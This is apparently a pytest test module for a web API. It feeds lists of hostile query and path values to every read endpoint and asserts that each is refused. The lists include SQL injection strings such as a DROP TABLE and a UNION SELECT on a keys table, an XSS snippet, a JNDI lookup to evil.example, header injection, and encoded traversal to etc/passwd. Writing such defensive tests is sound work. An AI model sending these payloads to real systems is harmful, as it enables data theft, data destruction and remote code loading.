"""Paths and queries that nobody should send, sent to every operation that reads.

A wrong value is refused with its documented status and comes back nowhere but in
`links`; what looks like SQL or a search language is only text (rows C1 to C11,
D1 to D3, D6 and D11 of the study of attacks).
"""

from urllib.parse import quote

import pytest

from app.tables import metadata
from tests.hostile.judging import CANARY
from tests.hostile.operations import EVERY, LISTS, MANAGE, READS, Operation
from tests.hostile.standing import Standing

REQUIRED = {
    "/v1/resolve": "path=/world",
    "/v1/articles/{article}/related": "by=author",
}

# A page size has a test of its own, and every list reads cursors in one place.
ALIKE = {False: {"limit"}, True: {"limit", "cursor"}}

HOSTILE = (
    "'",
    '"',
    "' OR '1'='1",
    "'; DROP TABLE articles; --",
    "1) UNION SELECT digest FROM keys --",
    "' AND 1=(SELECT count(*) FROM keys) --",
    "CASE WHEN 1=1 THEN 1 ELSE 1/0 END",
    "pg_sleep(10)",
    "';SELECT pg_sleep(10)--",
    "\\'; --",
    "%' ESCAPE '!",
    "%_%_%",
    "%%%%%%%%",
    "*",
    "(",
    ")",
    "a:b",
    "headline:secret",
    "body : secret",
    "{headline body} : secret",
    "^secret",
    "-secret",
    "secret*",
    "NEAR(secret story, 5)",
    "secret AND OR NOT",
    '"secret',
    "secret & | ! <-> :*",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "../../etc/passwd",
    "a,b,,c",
    ",",
    "-,-",
    "a,-b",
    "\r\nSet-Cookie: a=b",
    "\u202e",
    "\u200b",
    "\ufeff",
    "a\u0301" * 40,
    "😀",
    "٣",
    "null",
    "[]",
    "{}",
    "0x10",
    "1e3",
    "-1",
    "9223372036854775808",
    "9" * 400,
    "NaN",
    "infinity",
    "t1.password",
    "articles.state",
    "__class__",
    "_sa_instance_state",
    "a." * 60 + "a",
    "a," * 600 + "a",
    "a" * 4_000,
)

LIMITS = (
    "-1", "0", "101", "1e1", "1e9", "1.5", "5.0", "1_0", "0x10", "+5", " 5", "5 ",
    "all", "NaN", "", "null", "true", "\u0661", "5\x85", "9223372036854775807",
    "9223372036854775808", "99999999999999999999999",
)  # fmt: skip

MOMENTS = (
    "2026-05-01T12:00:00",
    "2026-05-01",
    "9999-12-31T23:59:59Z",
    "9999-12-31T23:59:59-14:00",
    "0001-01-01T00:00:00+14:00",
    "2026-12-31T23:59:60Z",
    "2026-02-30T12:00:00Z",
    "2026-05-01T12:00:00+99:00",
    "2026-05-01T12:00:00 01:00",
    "infinity",
    "-infinity",
    "now",
    "today",
    "0",
    "1777636800",
    "1777636800000",
    "1e18",
    "-1",
    "",
)

PATHS = (
    "%00",
    "a%00",
    "%ff",
    "%c0%ae",
    "%ed%a0%80",
    "%F4%90%80%80",
    "%0d%0aSet-Cookie:%20a=b",
    "%1b%5b31m",
    "%e2%80%ae",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%5c..%5cwindows",
    "%27%20OR%20%271%27=%271",
    "%22",
    "*",
    "-1",
    "0",
    "1e999",
    "9223372036854775808",
    "null",
    "undefined",
    "00000000-0000-0000-0000-000000000000",
    "00000000000000000000000000000000",
    "%7B0190b0a0-0000-7000-8000-000000000001%7D",
    "urn:uuid:0190b0a0-0000-7000-8000-000000000001",
    "FERRY",
    "ferry%20",
    "%20ferry",
    "ferry;x=1",
    "ferry.json",
    "ferry%2f",
    "f%c3%a9rry",
    "__class__",
    "%25s%25s%25n",
    "a" * 4_000,
    "%F0%9F%98%80" * 100,
)

UNKNOWN = (
    "t1.password",
    "articles.state",
    "author.email",
    "filter[author.email][$startsWith]",
    "__class__",
    "_sa_instance_state",
    "select",
    "where",
    "offset",
    "page",
    "sort",
    "order_by",
    "populate",
    "utm_source",
    "callback",
    "_method",
    "limit[]",
    "limit[gt]",
    "LIMIT",
    " limit",
    "limit ",
    "\u200blimit",
    "",
)


def asked(operation: Operation, path: str, query: str) -> str:
    """The address with a query, completed by what the operation needs."""
    name = query.partition("=")[0]
    needed = REQUIRED.get(operation.path, "")
    more = f"&{needed}" if needed and needed.partition("=")[0] != name else ""
    return f"{path}?{query}{more}"


@pytest.mark.parametrize("value", HOSTILE, ids=lambda value: ascii(value)[:40])
def test_a_hostile_value_in_a_query_is_only_a_value(
    value: str, unharmed: Standing
) -> None:
    wrong = []
    for operation in READS:
        path = unharmed.stock.path(operation)
        for name in set(operation.query) - ALIKE[operation.is_manage]:
            said = quote(f"{value}{CANARY}", safe="")
            response = unharmed.send(
                operation, asked(operation, path, f"{name}={said}")
            )
            wrong += unharmed.expect(operation, response, {200, 422})
    assert wrong == []


@pytest.mark.parametrize("escape", ["%00", "a%00b", "%ff", "%c0%af", "%ed%a0%80"])
def test_a_query_that_is_not_text_is_malformed(escape: str, unharmed: Standing) -> None:
    wrong = []
    for operation in READS:
        path = unharmed.stock.path(operation)
        for query in (f"limit={escape}", f"{escape}=1", f"q={escape}"):
            response = unharmed.send(operation, f"{path}?{query}")
            wrong += unharmed.expect(operation, response, 400)
    assert wrong == []


@pytest.mark.parametrize("limit", LIMITS, ids=ascii)
def test_a_page_size_is_a_plain_number_from_1_to_100(
    limit: str, unharmed: Standing
) -> None:
    wrong = []
    for operation in LISTS:
        path = unharmed.stock.path(operation)
        query = f"limit={quote(limit, safe='')}"
        response = unharmed.send(operation, asked(operation, path, query))
        wrong += unharmed.expect(operation, response, 422)
    assert wrong == []


@pytest.mark.parametrize("moment", MOMENTS, ids=ascii)
@pytest.mark.parametrize(
    "name", ["published_after", "published_before", "updated_after"]
)
def test_a_time_in_a_query_has_a_date_and_a_zone(
    name: str, moment: str, unharmed: Standing
) -> None:
    response = unharmed.client.get("/v1/articles", params={name: moment})
    assert response.status_code == 422
    assert [error["parameter"] for error in response.json()["errors"]] == [name]


@pytest.mark.parametrize("segment", PATHS, ids=lambda segment: segment[:40])
def test_a_hostile_path_finds_nothing(segment: str, unharmed: Standing) -> None:
    wrong = []
    for operation in EVERY:
        if operation.path.endswith("/menus/{menu}") and operation.method == "PUT":
            continue
        for name in operation.parameters:
            values = {**unharmed.stock.public, **unharmed.stock.manage, name: "@@"}
            path = operation.at(values).replace("%40%40", segment)
            query = REQUIRED.get(operation.path, "")
            response = unharmed.send(operation, f"{path}?{query}")
            wrong += unharmed.expect(operation, response, {400, 404, 422})
    assert wrong == []


@pytest.mark.parametrize("name", UNKNOWN, ids=ascii)
def test_a_parameter_nobody_declared_is_refused_by_name(
    name: str, unharmed: Standing
) -> None:
    wrong = []
    for operation in READS:
        path = unharmed.stock.path(operation)
        query = f"{quote(name, safe='')}={CANARY}"
        response = unharmed.send(operation, asked(operation, path, query))
        wrong += unharmed.expect(operation, response, 422)
        named = [error["parameter"] for error in response.json()["errors"]]
        wrong += [] if named == [name] else [f"{operation}: {named}"]
    assert wrong == []


def test_the_columns_of_our_tables_are_parameters_like_any_other(
    unharmed: Standing,
) -> None:
    columns = {column for table in metadata.tables.values() for column in table.columns}
    names = {column.name for column in columns} - {"id"}
    wrong = []
    for operation in (each for each in LISTS if not each.is_manage):
        path = unharmed.stock.path(operation)
        told = set()
        for name in names - set(operation.query) | {"zzzz_column"}:
            response = unharmed.send(operation, asked(operation, path, f"{name}=1"))
            wrong += unharmed.expect(operation, response, 422)
            detail = str(response.json()["errors"][0]["detail"])
            told.add(detail.partition("Known here")[2] or detail)
        plain = {text for text in told if "Authorization" not in text}
        wrong += [] if len(plain) == 1 else [f"{operation}: {plain}"]
    assert wrong == []


@pytest.mark.parametrize("count", [201, 2_000])
def test_a_query_of_very_many_fields_is_refused(count: int, unharmed: Standing) -> None:
    wrong = []
    for operation in READS:
        path = unharmed.stock.path(operation)
        response = unharmed.send(operation, f"{path}?{'a=1&' * count}")
        wrong += unharmed.expect(operation, response, 400)
    assert wrong == []


def test_an_address_beyond_8192_bytes_is_refused_everywhere(
    unharmed: Standing,
) -> None:
    wrong = []
    for operation in (*READS, *MANAGE):
        path = unharmed.stock.path(operation)
        long = f"{path}?{'a' * (8_193 - len(path.encode()))}"
        response = unharmed.send(operation, long)
        wrong += unharmed.expect(operation, response, 414)
        within = f"{path}?{'a' * (8_192 - len(path.encode()))}"
        response = unharmed.send(operation, within)
        wrong += unharmed.expect(operation, response, 422)
    assert wrong == []
